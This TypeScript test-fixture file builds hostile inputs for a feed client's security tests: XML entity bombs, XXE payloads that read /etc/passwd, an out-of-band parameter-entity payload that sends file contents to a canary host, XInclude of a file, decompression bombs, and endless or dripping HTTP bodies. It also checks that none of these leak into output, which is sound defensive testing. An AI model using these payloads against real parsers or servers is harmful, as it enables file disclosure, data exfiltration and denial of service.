/**
 * The hostile documents and bodies of the T6–T7 tests (outbound-entities.test.ts,
 * outbound-bombs.test.ts): XML entity bombs and external entities aimed at the canary,
 * compression bombs, endless and dripping bodies served by the stand-in internet, and the
 * check that nothing expanded or read from a file reached what is stored or answered.
 */
import fs from "node:fs";
import zlib from "node:zlib";
import { expect } from "vitest";
import { scale } from "../scale.ts";
import type { Route } from "./outbound-internet.ts";

export const MiB = 1024 * 1024;
/** The first line of the machine's password file: it must never turn up in anything stored or answered. */
const PASSWD = fs.readFileSync("/etc/passwd", "utf8").split("\n")[0] as string;

/** Nothing expanded, nothing read from a file, nothing fetched into the text, and the text stays small. */
export function expectInertText(text: string, what: string, maxChars: number) {
  expect(text, what).not.toContain(PASSWD);
  expect(text, what).not.toMatch(/root:.*:0:0:/);
  expect(text, what).not.toMatch(/(?:lol){5}/);
  expect(text, what).not.toMatch(/x{200}/);
  expect(text, what).not.toContain("canary");
  expect(text.length, what).toBeLessThanOrEqual(maxChars);
}

/** One hostile XML document's DTD part and what the content refers to. */
export type XmlAttack = { label: string; doctype: (root: string) => string; reference: string; utf16?: boolean };

/** The entity bombs and external entities, aimed at the canary (`canary` is its origin). */
export function xmlAttacks(canary: string): XmlAttack[] {
  const laughs = ['<!ENTITY lol0 "lol">'];
  for (let i = 1; i <= 9; i++) laughs.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return [
    { label: "billion laughs", doctype: (root) => `<!DOCTYPE ${root} [${laughs.join("")}]>`, reference: "&lol9;" },
    {
      label: "quadratic blowup",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY big "${"x".repeat(scale(50_000, 200_000))}">]>`,
      reference: "&big;".repeat(scale(2_000, 20_000)),
    },
    {
      label: "external entity: a file",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
      reference: "&xxe;",
    },
    {
      label: "external entity: the canary over http",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "${canary}/xxe">]>`,
      reference: "&xxe;",
    },
    {
      label: "parameter entities: a remote DTD and a file",
      doctype: (root) =>
        `<!DOCTYPE ${root} [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${canary}/evil.dtd">%dtd;<!ENTITY % wrap "<!ENTITY send SYSTEM '${canary}/?%file;'>">%wrap;]>`,
      reference: "&send;",
    },
    {
      label: "external DTD",
      doctype: (root) => `<!DOCTYPE ${root} SYSTEM "${canary}/feed.dtd">`,
      reference: "&fromDtd;",
    },
    {
      label: "public identifier with a file's address",
      doctype: (root) => `<!DOCTYPE ${root} PUBLIC "-//Gemwire//Hostile//EN" "file:///etc/passwd">`,
      reference: "&fromDtd;",
    },
    {
      label: "XInclude of a file",
      doctype: () => "",
      reference: '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    },
    {
      label: "external entity in UTF-16",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
      reference: "&xxe;",
      utf16: true,
    },
    {
      label: "a DOCTYPE that never ends",
      doctype: (root) => `<!DOCTYPE ${root} [<!ENTITY open "${"[".repeat(scale(20_000, 2_000_000))}`,
      reference: "&open;",
    },
  ];
}

/** Puts `doctype` after the XML declaration; UTF-16 documents say so and carry a BOM. */
export function document(xml: string, doctype: string, utf16 = false): Buffer {
  const body = xml.replace(/^<\?xml[^>]*\?>/, "");
  const declaration = `<?xml version="1.0" encoding="${utf16 ? "UTF-16" : "UTF-8"}"?>`;
  const text = `${declaration}\n${doctype}\n${body.trimStart()}`;
  return utf16 ? Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]) : Buffer.from(text);
}

export const answer =
  (body: Buffer | string, type: string, headers: Record<string, string> = {}): Route =>
  (_request, response) =>
    response.writeHead(200, { "content-type": type, ...headers }).end(body);

/** A hostile body, served; `closed` counts the times the client hung up on it. */
export type HostileBody = { label: string; route: Route; says: RegExp; closed: () => number };

/** Streams `piece` again and again until the client hangs up, counting hang-ups. */
function endless(label: string, piece: Buffer, headers: Record<string, string>, says: RegExp): HostileBody {
  let closed = 0;
  return {
    label,
    says,
    closed: () => closed,
    route: (_request, response) => {
      response.writeHead(200, { "content-type": "application/rss+xml", ...headers });
      const more = () => {
        while (!response.destroyed && response.write(piece));
        if (!response.destroyed) response.once("drain", more);
      };
      response.on("close", () => closed++);
      more();
    },
  };
}

/** Squeezes `total` zero bytes through `compressor`, 16 MiB at a time (never all in memory). */
async function squeeze(compressor: zlib.Gzip | zlib.Deflate | zlib.BrotliCompress, total: number): Promise<Buffer> {
  const zeros = Buffer.alloc(16 * MiB);
  const out: Buffer[] = [];
  compressor.on("data", (chunk: Buffer) => out.push(chunk));
  const ended = new Promise((resolve) => compressor.on("end", resolve));
  for (let written = 0; written < total; written += zeros.length) {
    if (!compressor.write(zeros)) await new Promise((resolve) => compressor.once("drain", resolve));
  }
  compressor.end();
  await ended;
  return Buffer.concat(out);
}

/** A body sent one byte every `everyMs`, forever; counts hang-ups. */
export function drip(everyMs: number): HostileBody {
  let closed = 0;
  return {
    label: `one byte every ${everyMs} ms`,
    says: /within [\d.]+ s/,
    closed: () => closed,
    route: (_request, response) => {
      response.writeHead(200, { "content-type": "application/rss+xml" });
      response.write("<");
      const timer = setInterval(() => response.write(" "), everyMs);
      response.on("close", () => {
        clearInterval(timer);
        closed++;
      });
    },
  };
}

export const TOO_LARGE = /larger than \d+ MiB/;

/** The bombs and endless bodies, built once per file: small bodies that inflate to GBs at full size. */
export async function hostileBodies(): Promise<HostileBody[]> {
  const gzipMember = zlib.gzipSync(Buffer.alloc(16 * MiB), { level: 9 });
  const members = scale(16, 256); // 256 MiB or 4 GiB once inflated
  const gzipBomb = Buffer.concat(Array.from({ length: members }, () => gzipMember));
  const brotliBomb = await squeeze(
    zlib.createBrotliCompress({ params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 1 } }),
    scale(256, 4096) * MiB,
  );
  const deflateBomb = await squeeze(zlib.createDeflate({ level: 9 }), scale(64, 1024) * MiB);
  const rawDeflateBomb = await squeeze(zlib.createDeflateRaw({ level: 9 }), scale(64, 1024) * MiB);
  const once = (label: string, body: Buffer, encoding: string, says = TOO_LARGE): HostileBody => ({
    label,
    says,
    closed: () => 0,
    route: answer(body, "application/rss+xml", { "content-encoding": encoding }),
  });
  return [
    once(`gzip bomb (${members * 16} MiB inflated)`, gzipBomb, "gzip"),
    once(`brotli bomb (${scale(256, 4096)} MiB inflated)`, brotliBomb, "br"),
    once(`deflate bomb (${scale(64, 1024)} MiB inflated)`, deflateBomb, "deflate"),
    once(`raw deflate bomb (${scale(64, 1024)} MiB inflated)`, rawDeflateBomb, "deflate"),
    once("gzip bomb inside gzip", zlib.gzipSync(gzipBomb), "gzip, gzip"),
    endless("an endless body", Buffer.alloc(64 * 1024, "<item>"), {}, TOO_LARGE),
    endless("an endless stream of gzip bombs", gzipMember, { "content-encoding": "gzip" }, TOO_LARGE),
  ];
}

/**
 * The deadline injected into the clients that meet the drip (the real 20 s one is timed at
 * full size); the bombs meet clients with their real deadline, so a slow machine inflating
 * one never turns the cap's refusal into a timeout.
 */
export const DEADLINE_MS = scale(300, 2_000);
export const DRIP_MS = scale(40, 500);
